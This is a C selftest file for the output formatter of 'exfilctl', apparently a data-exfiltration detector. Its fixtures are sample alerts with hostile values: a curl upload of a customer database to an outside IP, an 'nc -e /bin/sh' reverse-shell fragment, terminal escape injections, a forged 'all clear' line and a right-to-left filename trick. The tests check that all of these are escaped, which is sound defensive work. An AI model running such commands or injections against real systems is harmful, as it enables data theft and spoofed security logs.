// SPDX-License-Identifier: GPL-2.0-only
/*
 * exfilctl's human output, byte for byte, from fixed replies: the alert
 * table, the evidence report, status, query results and the watch list.
 * Half of these replies are hostile: every string a thief controls must
 * reach the terminal escaped, on one line, in its own column.
 */
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "kselftest_harness.h"
#include "ctl_format.h"

/* Run a printer over a JSON text; the output, or NULL on a bad fixture. */
static char *render(int (*print)(FILE *, struct json_object *),
		    const char *json, int *ret)
{
	struct json_object *obj = json_tokener_parse(json);
	char *buf = NULL;
	size_t len = 0;
	FILE *f;

	*ret = -1000;
	if (!obj && strcmp(json, "null"))
		return NULL;
	f = open_memstream(&buf, &len);
	if (!f)
		return NULL;
	*ret = print(f, obj);
	fclose(f);
	json_object_put(obj);
	return buf;
}

#define EXPECT_OUTPUT(print, json, want) do {				\
	int _ret;							\
	char *_out = render(print, json, &_ret);			\
									\
	ASSERT_NE(NULL, _out) TH_LOG("bad fixture: %s", json);		\
	EXPECT_EQ(0, _ret);						\
	EXPECT_STREQ(want, _out);					\
	free(_out);							\
} while (0)

/* Nothing a terminal would act on: no control byte but newline. */
static int has_control_bytes(const char *s)
{
	for (; *s; s++)
		if (((unsigned char)*s < 0x20 && *s != '\n') ||
		    (unsigned char)*s == 0x7f || (unsigned char)*s >= 0x80)
			return 1;
	return 0;
}

static int count_lines(const char *s)
{
	int n = 0;

	for (; *s; s++)
		n += *s == '\n';
	return n;
}

#define ALERT_12 \
	"{\"id\":12,\"time\":\"2026-11-29T11:27:38.123456Z\"," \
	"\"updated\":\"2026-11-29T11:29:02.000001Z\",\"severity\":\"high\"," \
	"\"pid\":4242,\"ppid\":4100,\"uid\":1000,\"user\":\"alice\"," \
	"\"comm\":\"curl\",\"exe\":\"/usr/bin/curl\"," \
	"\"cmdline\":\"curl -T - https://203.0.113.7/upload\"," \
	"\"host\":\"203.0.113.7\"," \
	"\"files\":[{\"path\":\"/srv/crm/customers.db\",\"bytes_read\":12582912}]," \
	"\"bytes_read\":12582912," \
	"\"destinations\":[" \
	"{\"addr\":\"203.0.113.7\",\"port\":443,\"proto\":\"tcp\",\"bytes_sent\":12480000}," \
	"{\"addr\":\"2001:db8::7\",\"port\":53,\"proto\":\"udp\",\"bytes_sent\":900}]," \
	"\"bytes_sent\":12480000,\"sensor\":\"bpf\"," \
	"\"taint\":12582912,\"senders\":1," \
	"\"chain\":[" \
	"{\"pid\":4100,\"comm\":\"sqlite3\",\"exe\":\"/usr/bin/sqlite3\",\"via\":\"read\"," \
	"\"object\":\"/srv/crm/customers.db\",\"bytes\":12582912}," \
	"{\"pid\":4101,\"comm\":\"gzip\",\"exe\":\"/usr/bin/gzip\",\"via\":\"pipe\"," \
	"\"object\":\"\",\"bytes\":12687769}," \
	"{\"pid\":4242,\"comm\":\"curl\",\"exe\":\"/usr/bin/curl\",\"via\":\"pipe\"," \
	"\"object\":\"\",\"bytes\":12480000}]," \
	"\"reason\":\"curl (pid 4242, user alice) sent 11.9 MiB to 203.0.113.7:443 after its tree read 12.0 MiB of /srv/crm/customers.db\"," \
	"\"ancestry\":[" \
	"{\"pid\":4242,\"ppid\":4100,\"uid\":1000,\"comm\":\"curl\",\"exe\":\"/usr/bin/curl\"}," \
	"{\"pid\":4100,\"ppid\":1,\"uid\":1000,\"comm\":\"bash\",\"exe\":\"/usr/bin/bash\"}]," \
	"\"first_ns\":1000000000,\"last_ns\":73000000000}"

/* Every string chosen by the thief, and the times not quite right. */
#define ALERT_HOSTILE \
	"{\"id\":13,\"time\":\"2026-11-29T11:27:38Z\"," \
	"\"updated\":\"2026-11-29T12:27:38+01:00\"," \
	"\"severity\":\"critical\\u001b[5m\",\"pid\":666,\"ppid\":1,\"uid\":0," \
	"\"user\":\"root\",\"comm\":\"\\u001b]0;owned\\u0007\"," \
	"\"exe\":\"/tmp/\\u001b[2J\",\"cmdline\":\"nc -e\\n/bin/sh x\"," \
	"\"host\":\"198.51.100.20\"," \
	"\"files\":[{\"path\":\"/srv/crm/x\\nAlert 1 (low): all clear\",\"bytes_read\":2048}]," \
	"\"bytes_read\":2048,\"destinations\":[],\"bytes_sent\":1024," \
	"\"sensor\":\"kmod\",\"reason\":\"line one\\r\\nline two \\\\ backslash\"," \
	"\"ancestry\":[],\"first_ns\":5,\"last_ns\":4}"

TEST(alerts_table)
{
	EXPECT_OUTPUT(ctl_print_alerts, "[" ALERT_12 "," ALERT_HOSTILE "]",
"ID  TIME (UTC)           SEVERITY         USER    PID  COMM              HOST               READ      SENT\n"
"12  2026-11-29 11:27:38  high             alice  4242  curl              203.0.113.7    12.0 MiB  11.9 MiB\n"
"13  2026-11-29 11:27:38  critical\\x1b[5m  root    666  \\x1b]0;owned\\x07  198.51.100.20   2.0 KiB   1.0 KiB\n");
}

TEST(alerts_table_hostile_user_and_comm_stay_in_their_columns)
{
	int ret;
	char *out = render(ctl_print_alerts,
		"[{\"id\":9,\"time\":\"2026-11-28T08:00:00Z\",\"severity\":\"low\","
		"\"user\":\"mallory\\u001b[2J\",\"pid\":77,\"comm\":\"sc\\np\","
		"\"host\":\"198.51.100.20\",\"bytes_read\":1073741824,"
		"\"bytes_sent\":512}]", &ret);

	ASSERT_NE(NULL, out);
	EXPECT_EQ(0, ret);
	EXPECT_STREQ(
"ID  TIME (UTC)           SEVERITY  USER            PID  COMM   HOST              READ   SENT\n"
" 9  2026-11-28 08:00:00  low       mallory\\x1b[2J   77  sc\\np  198.51.100.20  1.0 GiB  512 B\n",
		out);
	EXPECT_EQ(2, count_lines(out));
	EXPECT_EQ(0, has_control_bytes(out));
	free(out);
}

TEST(no_alerts)
{
	EXPECT_OUTPUT(ctl_print_alerts, "[]", "no alerts\n");
}

TEST(alerts_with_missing_fields_print_dashes)
{
	EXPECT_OUTPUT(ctl_print_alerts, "[{\"id\":\"x\",\"time\":\"yesterday\"}]",
"ID  TIME (UTC)  SEVERITY  USER  PID  COMM  HOST  READ  SENT\n"
" -  yesterday   -         -       -  -     -        -     -\n");
}

TEST(wrong_shapes_are_einval)
{
	int ret;

	free(render(ctl_print_alerts, "{\"alerts\":[]}", &ret));
	EXPECT_EQ(-EINVAL, ret);
	free(render(ctl_print_alerts, "null", &ret));
	EXPECT_EQ(-EINVAL, ret);
	free(render(ctl_print_alert, "[]", &ret));
	EXPECT_EQ(-EINVAL, ret);
	free(render(ctl_print_status, "[]", &ret));
	EXPECT_EQ(-EINVAL, ret);
	free(render(ctl_print_query, "{\"columns\":[\"a\"]}", &ret));
	EXPECT_EQ(-EINVAL, ret);
	free(render(ctl_print_watched, "{}", &ret));
	EXPECT_EQ(-EINVAL, ret);
	free(render(ctl_print_policy, "{\"watched\":[]}", &ret));
	EXPECT_EQ(-EINVAL, ret);
	free(render(ctl_print_override, "{\"who\":\"x\"}", &ret));
	EXPECT_EQ(-EINVAL, ret);
}

TEST(evidence_report)
{
	EXPECT_OUTPUT(ctl_print_alert, ALERT_12,
"Alert 12 (high): curl (pid 4242, user alice) sent 11.9 MiB to 203.0.113.7:443 after its tree read 12.0 MiB of /srv/crm/customers.db\n"
"\n"
"Raised:    2026-11-29 11:27:38 UTC\n"
"Updated:   2026-11-29 11:29:02 UTC\n"
"Host:      203.0.113.7\n"
"Chain:     sqlite3[4100] read 12.0 MiB of /srv/crm/customers.db ->pipe 12.1 MiB-> gzip[4101] ->pipe 11.9 MiB-> curl[4242] -> 203.0.113.7:443\n"
"Read:      12.0 MiB of watched data\n"
"Taint:     12.0 MiB of it reached the senders\n"
"Sent:      11.9 MiB of it to 203.0.113.7\n"
"Senders:   1 process\n"
"Activity:  1.2min from the first watched read to the last send\n"
"Sensor:    bpf\n"
"\n"
"Process\n"
"  PID:      4242\n"
"  PPID:     4100\n"
"  UID:      1000\n"
"  User:     alice\n"
"  Comm:     curl\n"
"  Exe:      /usr/bin/curl\n"
"  Cmdline:  curl -T - https://203.0.113.7/upload\n"
"\n"
"Ancestry (the sending process first)\n"
"   PID  PPID   UID  COMM  EXE\n"
"  4242  4100  1000  curl  /usr/bin/curl\n"
"  4100     1  1000  bash  /usr/bin/bash\n"
"\n"
"Watched files read\n"
"      READ  PATH\n"
"  12.0 MiB  /srv/crm/customers.db\n"
"\n"
"Destinations\n"
"      SENT  DESTINATION\n"
"  11.9 MiB  203.0.113.7:443/tcp\n"
"     900 B  [2001:db8::7]:53/udp\n");
}

TEST(evidence_report_of_a_hostile_alert)
{
	int ret;
	char *out = render(ctl_print_alert, ALERT_HOSTILE, &ret);

	ASSERT_NE(NULL, out);
	EXPECT_EQ(0, ret);
	/*
	 * The fake "Alert 1 (low): all clear" line stays part of the path,
	 * a time with an offset is not passed off as UTC, and an impossible
	 * span is shown as unknown.
	 */
	EXPECT_STREQ(
"Alert 13 (critical\\x1b[5m): line one\\r\\nline two \\\\ backslash\n"
"\n"
"Raised:    2026-11-29 11:27:38 UTC\n"
"Updated:   2026-11-29T12:27:38+01:00\n"
"Host:      198.51.100.20\n"
"Chain:     -\n"
"Read:      2.0 KiB of watched data\n"
"Taint:     -\n"
"Sent:      1.0 KiB of it to 198.51.100.20\n"
"Senders:   -\n"
"Activity:  -\n"
"Sensor:    kmod\n"
"\n"
"Process\n"
"  PID:      666\n"
"  PPID:     1\n"
"  UID:      0\n"
"  User:     root\n"
"  Comm:     \\x1b]0;owned\\x07\n"
"  Exe:      /tmp/\\x1b[2J\n"
"  Cmdline:  nc -e\\n/bin/sh x\n"
"\n"
"Ancestry (the sending process first)\n"
"  none recorded\n"
"\n"
"Watched files read\n"
"     READ  PATH\n"
"  2.0 KiB  /srv/crm/x\\nAlert 1 (low): all clear\n"
"\n"
"Destinations\n"
"  none recorded\n", out);
	EXPECT_EQ(0, has_control_bytes(out));
	free(out);
}

/* A chain whose names and paths are the thief's, over a derived file. */
#define ALERT_CHAIN_HOSTILE \
	"{\"id\":14,\"host\":\"2001:db8::7\",\"senders\":3," \
	"\"destinations\":[" \
	"{\"addr\":\"2001:db8::7\",\"port\":53,\"proto\":\"udp\",\"bytes_sent\":10}," \
	"{\"addr\":\"2001:db8::7\",\"port\":443,\"proto\":\"tcp\",\"bytes_sent\":4096}]," \
	"\"chain\":[" \
	"{\"pid\":0,\"comm\":\"\",\"exe\":\"\",\"via\":\"?\",\"object\":\"\",\"bytes\":0}," \
	"{\"pid\":77,\"comm\":\"cp\\u001b[2J\",\"exe\":\"/bin/cp\",\"via\":\"fork\"," \
	"\"object\":\"\",\"bytes\":2048}," \
	"{\"pid\":78,\"comm\":\"caf\u00e9\",\"exe\":\"/bin/x\",\"via\":\"file\"," \
	"\"object\":\"\u2026/tmp/a\\nb\",\"bytes\":2048}," \
	"{\"pid\":78,\"comm\":\"nc\",\"exe\":\"/bin/nc\",\"via\":\"exec\"," \
	"\"object\":\"\",\"bytes\":0}]}"

TEST(chain_line_escapes_and_picks_the_main_destination)
{
	int ret;
	char *out, *line;

	out = render(ctl_print_alert, ALERT_CHAIN_HOSTILE, &ret);
	ASSERT_NE(NULL, out);
	EXPECT_EQ(0, ret);
	line = strstr(out, "Chain:");
	ASSERT_NE(NULL, line);
	*strchr(line, '\n') = '\0';
	EXPECT_STREQ("Chain:     ? ->fork 2.0 KiB-> cp\\x1b[2J[77] "
		     "->file \\xe2\\x80\\xa6/tmp/a\\nb 2.0 KiB-> "
		     "caf\\xc3\\xa9[78] ->exec-> nc[78] -> [2001:db8::7]:443",
		     line);
	free(out);

	/* a UTF-8 terminal gets the arrows and the printable names */
	ctl_set_utf8(true);
	out = render(ctl_print_alert, ALERT_CHAIN_HOSTILE, &ret);
	ctl_set_utf8(false);
	ASSERT_NE(NULL, out);
	EXPECT_NE(NULL, strstr(out, "Senders:   3 processes (the chain is "
				    "the largest one's)\n"));
	line = strstr(out, "Chain:");
	ASSERT_NE(NULL, line);
	*strchr(line, '\n') = '\0';
	EXPECT_STREQ("Chain:     ? \xe2\x86\x92" "fork 2.0 KiB\xe2\x86\x92 "
		     "cp\\x1b[2J[77] \xe2\x86\x92" "file \xe2\x80\xa6/tmp/a\\nb "
		     "2.0 KiB\xe2\x86\x92 caf\xc3\xa9[78] \xe2\x86\x92" "exec"
		     "\xe2\x86\x92 nc[78] \xe2\x86\x92 [2001:db8::7]:443", line);
	free(out);
}

#define STATUS \
	"{\"ok\":true,\"sensor\":\"bpf\",\"abi\":\"1.0\",\"version\":\"0.1\"," \
	"\"pid\":321,\"uptime_s\":7380," \
	"\"watched\":[{\"path\":\"/srv/crm/customers.db\",\"inodes\":1,\"kind\":\"file\"}," \
	"{\"path\":\"/srv/crm/exports\",\"inodes\":12,\"kind\":\"dir\"}]," \
	"\"procs_known\":812,\"procs_tracked\":3,\"events\":123456," \
	"\"dropped\":0,\"lost_read_bytes\":0,\"lost_send_bytes\":4096," \
	"\"table_full\":{\"procs\":0,\"reads\":1,\"sends\":2},\"alerts\":7," \
	"\"future\\u001bkey\":\"x\\ty\"}"

TEST(status_lines)
{
	/* A newer daemon's extra key is shown too, escaped like the rest. */
	EXPECT_OUTPUT(ctl_print_status, STATUS,
"version:          0.1\n"
"pid:              321\n"
"uptime:           2.1h\n"
"sensor:           bpf\n"
"abi:              1.0\n"
"watched:          /srv/crm/customers.db (file, 1 inode)\n"
"                  /srv/crm/exports (dir, 12 inodes)\n"
"procs known:      812\n"
"procs tracked:    3\n"
"events:           123456\n"
"dropped:          0\n"
"lost read bytes:  0\n"
"lost send bytes:  4096\n"
"table full:       procs 0, reads 1, sends 2\n"
"alerts:           7\n"
"future\\x1bkey:    x\\ty\n");
}

TEST(status_with_nothing_watched)
{
	EXPECT_OUTPUT(ctl_print_status,
		      "{\"ok\":true,\"uptime_s\":90,\"watched\":[],\"table_full\":{}}",
"uptime:      1.5min\n"
"watched:     none\n"
"table full:  none\n");
}

TEST(status_prevent_line)
{
	EXPECT_OUTPUT(ctl_print_status,
		      "{\"ok\":true,\"prevent\":{\"mode\":\"prevent\","
		      "\"prevent_paths\":2,\"overrides\":1,\"refused\":5}}",
"prevent:  mode prevent, prevent_paths 2, overrides 1, refused 5\n");
}

#define POLICY \
	"{\"ok\":true,\"mode\":\"prevent\",\"mode_source\":\"/etc/x.conf:6\"," \
	"\"threshold\":1048576,\"watched\":[" \
	"{\"path\":\"/srv/a\",\"mode\":\"prevent\",\"source\":\"global\"}," \
	"{\"path\":\"/srv/b\\u001b[2J\",\"mode\":\"detect\"," \
	"\"source\":\"/etc/x.conf:8\"}]," \
	"\"internal\":[\"127.0.0.0/8\",\"::1/128\"]," \
	"\"overrides\":[{\"id\":3,\"kind\":\"pid\",\"pid\":42," \
	"\"who\":\"pid 42 (cu\\nrl)\",\"dest\":\"[2001:db8::2]:443\"," \
	"\"until\":\"2026-11-30T12:00:00.000001Z\",\"granted_by_uid\":0}]}"

TEST(policy_report)
{
	/* the names are the attacker's: escaped, in their columns */
	EXPECT_OUTPUT(ctl_print_policy, POLICY,
"mode: prevent (/etc/x.conf:6)\n"
"threshold: 1.0 MiB of watched data\n"
"watched:\n"
"  MODE     FROM           PATH\n"
"  prevent  global         /srv/a\n"
"  detect   /etc/x.conf:8  /srv/b\\x1b[2J\n"
"internal: 127.0.0.0/8, ::1/128\n"
"overrides:\n"
"  ID  WHO              DEST               UNTIL (UTC)          GRANTED BY\n"
"   3  pid 42 (cu\\nrl)  [2001:db8::2]:443  2026-11-30 12:00:00  uid 0\n");
	EXPECT_OUTPUT(ctl_print_policy,
		      "{\"mode\":\"detect\",\"mode_source\":\"default\","
		      "\"threshold\":512,\"watched\":[],\"internal\":[],"
		      "\"overrides\":[]}",
"mode: detect (default)\n"
"threshold: 512 B of watched data\n"
"watched: none\n"
"internal: none\n"
"overrides: none\n");
}

TEST(override_sentences)
{
	EXPECT_OUTPUT(ctl_print_override,
		      "{\"id\":4,\"who\":\"/usr/bin/curl\",\"dest\":\"198.18.0.9\","
		      "\"until\":\"2026-11-30T12:00:00.5Z\"}",
"override 4: /usr/bin/curl may send to 198.18.0.9 until 2026-11-30 12:00:00 UTC\n");
	EXPECT_OUTPUT(ctl_print_revoked,
		      "{\"id\":4,\"dest\":\"198.18.0.9:53\"}",
"override 4 revoked: transfers to 198.18.0.9:53 are refused again\n");
}

TEST(query_table)
{
	/* Numbers right, text left, NULL as SQL writes it. */
	EXPECT_OUTPUT(ctl_print_query,
		"{\"ok\":true,\"columns\":[\"id\",\"host\",\"bytes_sent\",\"note\"],"
		"\"rows\":[[12,\"203.0.113.7\",12480000,null],"
		"[9,\"198.51.100.20\",512,\"hi\\u001b]0;pwned\\u0007\"],"
		"[10,null,0.5,true]],"
		"\"truncated\":false}",
"id  host           bytes_sent  note\n"
"12  203.0.113.7      12480000  NULL\n"
" 9  198.51.100.20         512  hi\\x1b]0;pwned\\x07\n"
"10  NULL                  0.5  true\n"
"(3 rows)\n");
}

TEST(query_truncated_short_rows_and_no_rows)
{
	EXPECT_OUTPUT(ctl_print_query,
		"{\"ok\":true,\"columns\":[\"a\",\"b\"],\"rows\":[[1],[\"x\",2,3]],"
		"\"truncated\":true}",
"a  b\n"
"1   \n"
"x  2\n"
"(2 rows, truncated)\n");
	EXPECT_OUTPUT(ctl_print_query,
		"{\"ok\":true,\"columns\":[\"count(*)\"],\"rows\":[[1]],\"truncated\":false}",
"count(*)\n"
"       1\n"
"(1 row)\n");
	EXPECT_OUTPUT(ctl_print_query,
		"{\"ok\":true,\"columns\":[\"id\",\"host\"],\"rows\":[],\"truncated\":false}",
"id  host\n"
"(0 rows)\n");
}

TEST(watch_list)
{
	EXPECT_OUTPUT(ctl_print_watched,
		"[{\"path\":\"/srv/crm/customers.db\",\"inodes\":1,\"kind\":\"file\"},"
		"{\"path\":\"/srv/crm/exports\",\"inodes\":12,\"kind\":\"dir\"}]",
"KIND  INODES  PATH\n"
"file       1  /srv/crm/customers.db\n"
"dir       12  /srv/crm/exports\n");
	EXPECT_OUTPUT(ctl_print_watched, "[]", "nothing is watched\n");
}

/*
 * A watch path is any bytes but NUL: a newline, an escape sequence, a C1
 * CSI and the U+FFFD the daemon put for invalid UTF-8 (watch.c) stay on
 * their row, escaped, in the watch list and in status.
 */
TEST(watch_list_hostile_path)
{
	EXPECT_OUTPUT(ctl_print_watched,
		"[{\"path\":\"/srv/a\\nfile 1 /etc/shadow\\u001b[2J\\u009b"
		"\xef\xbf\xbd\",\"inodes\":1,\"kind\":\"file\",\"ino\":12,"
		"\"replaced\":3}]",
"KIND  INODES  PATH\n"
"file       1  /srv/a\\nfile 1 /etc/shadow\\x1b[2J\\xc2\\x9b\\xef\\xbf\\xbd\n");
	ctl_set_utf8(true);
	EXPECT_OUTPUT(ctl_print_watched,
		"[{\"path\":\"/srv/a\\nb\\u009b\xef\xbf\xbd\",\"inodes\":2,"
		"\"kind\":\"file\"}]",
"KIND  INODES  PATH\n"
"file       2  /srv/a\\nb\\xc2\\x9b\xef\xbf\xbd\n");
	ctl_set_utf8(false);
}

static int print_add(FILE *f, struct json_object *reply)
{
	return ctl_print_watch_change(f, "add", reply);
}

static int print_rm(FILE *f, struct json_object *reply)
{
	return ctl_print_watch_change(f, "rm", reply);
}

TEST(watch_change)
{
	EXPECT_OUTPUT(print_add,
		      "{\"ok\":true,\"path\":\"/srv/crm/customers.db\",\"inodes\":1}",
		      "watching /srv/crm/customers.db (1 inode)\n");
	EXPECT_OUTPUT(print_rm,
		      "{\"ok\":true,\"path\":\"/srv/crm/exports\\n\",\"inodes\":12}",
		      "stopped watching /srv/crm/exports\\n (12 inodes)\n");
}

TEST(json_is_pretty_and_terminal_safe)
{
	/*
	 * U+009B (CSI) and U+202E (right-to-left override) become \u escapes,
	 * which mean the same to a JSON parser; é and / stay as they are.
	 */
	EXPECT_OUTPUT(ctl_print_json,
		"{\"path\":\"/srv/donn\\u00e9es\",\"comm\":\"\\u009b2J\\u202etxt.exe\","
		"\"esc\":\"\\u001b\",\"n\":[1,2]}",
"{\n"
"  \"path\": \"/srv/donn\xc3\xa9" "es\",\n"
"  \"comm\": \"\\u009b2J\\u202etxt.exe\",\n"
"  \"esc\": \"\\u001b\",\n"
"  \"n\": [\n"
"    1,\n"
"    2\n"
"  ]\n"
"}\n");
}

TEST(write_error_is_eio)
{
	struct json_object *alerts = json_tokener_parse("[" ALERT_12 "]");
	char buf[16];
	FILE *f;

	ASSERT_NE(NULL, alerts);
	f = fmemopen(buf, sizeof(buf), "w");
	ASSERT_NE(NULL, f);
	EXPECT_EQ(-EIO, ctl_print_alerts(f, alerts));
	fclose(f);
	json_object_put(alerts);
}

/* ctl_escape() in both modes. */
FIXTURE(escape) {
};

FIXTURE_VARIANT(escape) {
	const char *in;
	const char *ascii;	/* ctl_set_utf8(false) */
	const char *utf8;	/* ctl_set_utf8(true) */
};

FIXTURE_VARIANT_ADD(escape, plain) {
	.in = "/srv/crm/customers.db", .ascii = "/srv/crm/customers.db",
	.utf8 = "/srv/crm/customers.db",
};
FIXTURE_VARIANT_ADD(escape, newline) {
	.in = "a\nb", .ascii = "a\\nb", .utf8 = "a\\nb",
};
FIXTURE_VARIANT_ADD(escape, tab_and_cr) {
	.in = "\t\r", .ascii = "\\t\\r", .utf8 = "\\t\\r",
};
FIXTURE_VARIANT_ADD(escape, esc_sequence) {
	.in = "\x1b[2J", .ascii = "\\x1b[2J", .utf8 = "\\x1b[2J",
};
FIXTURE_VARIANT_ADD(escape, other_controls) {
	.in = "\x01\x07\x7f", .ascii = "\\x01\\x07\\x7f",
	.utf8 = "\\x01\\x07\\x7f",
};
/* Else "a\nb" on screen could be a backslash-n or a newline. */
FIXTURE_VARIANT_ADD(escape, backslash) {
	.in = "a\\nb", .ascii = "a\\\\nb", .utf8 = "a\\\\nb",
};
FIXTURE_VARIANT_ADD(escape, accented) {
	.in = "donn\xc3\xa9" "es", .ascii = "donn\\xc3\\xa9es",
	.utf8 = "donn\xc3\xa9" "es",
};
FIXTURE_VARIANT_ADD(escape, cjk_and_emoji) {
	.in = "\xe4\xb8\xad\xf0\x9f\x92\xbe",
	.ascii = "\\xe4\\xb8\\xad\\xf0\\x9f\\x92\\xbe",
	.utf8 = "\xe4\xb8\xad\xf0\x9f\x92\xbe",
};
/* U+009B: CSI to a terminal that honours C1 controls. */
FIXTURE_VARIANT_ADD(escape, c1_csi_as_utf8) {
	.in = "\xc2\x9b" "2J", .ascii = "\\xc2\\x9b2J", .utf8 = "\\xc2\\x9b2J",
};
FIXTURE_VARIANT_ADD(escape, c1_csi_raw_byte) {
	.in = "\x9b" "2J", .ascii = "\\x9b2J", .utf8 = "\\x9b2J",
};
/* U+202E: "exe.txt" that reads as "txt.exe". */
FIXTURE_VARIANT_ADD(escape, right_to_left_override) {
	.in = "\xe2\x80\xae" "exe.txt", .ascii = "\\xe2\\x80\\xaeexe.txt",
	.utf8 = "\\xe2\\x80\\xaeexe.txt",
};
FIXTURE_VARIANT_ADD(escape, zero_width_space) {
	.in = "ro\xe2\x80\x8bot", .ascii = "ro\\xe2\\x80\\x8bot",
	.utf8 = "ro\\xe2\\x80\\x8bot",
};
FIXTURE_VARIANT_ADD(escape, overlong_slash) {
	.in = "\xc0\xaf", .ascii = "\\xc0\\xaf", .utf8 = "\\xc0\\xaf",
};
FIXTURE_VARIANT_ADD(escape, surrogate) {
	.in = "\xed\xa0\x80", .ascii = "\\xed\\xa0\\x80",
	.utf8 = "\\xed\\xa0\\x80",
};
FIXTURE_VARIANT_ADD(escape, truncated_sequence) {
	.in = "x\xe2\x82", .ascii = "x\\xe2\\x82", .utf8 = "x\\xe2\\x82",
};
FIXTURE_VARIANT_ADD(escape, invalid_byte) {
	.in = "\xff\xfe", .ascii = "\\xff\\xfe", .utf8 = "\\xff\\xfe",
};

FIXTURE_SETUP(escape)
{
}

FIXTURE_TEARDOWN(escape)
{
	ctl_set_utf8(false);
}

TEST_F(escape, ascii_and_utf8)
{
	char *out;

	ctl_set_utf8(false);
	out = ctl_escape(variant->in);
	ASSERT_NE(NULL, out);
	EXPECT_STREQ(variant->ascii, out);
	free(out);

	ctl_set_utf8(true);
	out = ctl_escape(variant->in);
	ASSERT_NE(NULL, out);
	EXPECT_STREQ(variant->utf8, out);
	free(out);
}

TEST(escape_null_is_empty)
{
	char *out = ctl_escape(NULL);

	ASSERT_NE(NULL, out);
	EXPECT_STREQ("", out);
	free(out);
}

TEST(utf8_columns_align_by_characters)
{
	ctl_set_utf8(true);
	EXPECT_OUTPUT(ctl_print_watched,
		"[{\"path\":\"/srv/donn\\u00e9es\",\"inodes\":3,\"kind\":\"r\\u00e9p\"},"
		"{\"path\":\"/srv/crm\",\"inodes\":1,\"kind\":\"dir\"}]",
"KIND  INODES  PATH\n"
"r\xc3\xa9p        3  /srv/donn\xc3\xa9" "es\n"
"dir        1  /srv/crm\n");
	ctl_set_utf8(false);
}

TEST_HARNESS_MAIN
